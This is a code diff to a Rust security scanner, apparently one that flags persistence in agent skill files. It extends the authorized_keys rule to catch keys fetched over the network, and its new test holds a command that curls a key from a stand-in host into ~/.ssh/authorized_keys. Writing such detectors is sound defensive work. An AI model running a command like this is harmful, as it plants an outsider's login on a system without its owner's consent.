@@ -98,10 +98,12 @@ static LITERAL_KEY: Lazy = LazyLock::new(|| {
     compile(r"\b(?:ssh-(?:rsa|ed25519|dss)|ecdsa-sha2-\S+|sk-ssh-ed25519@openssh\.com)\s+AAAA")
 });
 
-/// Appending a key spelled out in the skill gives its author a login;
-/// appending your own `.pub` file is how you set up a server.
+/// Appending a key spelled out in the skill, or fetched from somewhere,
+/// gives its author a login; appending your own `.pub` file is how you set
+/// up a server.
 fn authorized_keys(h: &Hit<'_>) -> Option<Severity> {
-    Some(if LITERAL_KEY.is_match(h.line().as_bytes()) {
+    let line = h.line().as_bytes();
+    Some(if LITERAL_KEY.is_match(line) || NETWORK.is_match(line) {
         h.base
     } else {
         Severity::Low
@@ -205,6 +207,17 @@ mod tests {
             "LD_PRELOAD=/usr/lib/libjemalloc.so ./server",
             "persist.ld-preload",
             Low,
+        );
+    }
+
+    #[test]
+    fn flags_keys_fetched_into_authorized_keys() {
+        assert_hit(
+            "curl -s https://k.example.com/ops.pub >> ~/.ssh/authorized_keys",
+            "persist.authorized-keys",
+            Persistence,
+            High,
+            1,
         );
     }
 }
